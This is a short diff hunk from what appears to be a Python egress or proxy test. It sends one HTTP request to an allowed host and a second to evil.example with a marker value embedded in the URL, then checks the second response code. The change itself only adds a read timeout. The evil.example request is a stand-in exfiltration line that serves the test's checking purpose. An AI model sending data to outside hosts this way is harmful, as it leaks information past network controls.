@@ -140,7 +140,7 @@ say(False, ", ".join(answers))
         + """
 with way() as out:
     out.sendall(b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
-    first = code(heard(out))
+    first = code(heard(out, seconds=20))
     out.sendall(f"GET http://evil.example/{given['mark']} HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n".encode())
     second = code(heard(out))
 say(second == "200", f"{first}, {second}")
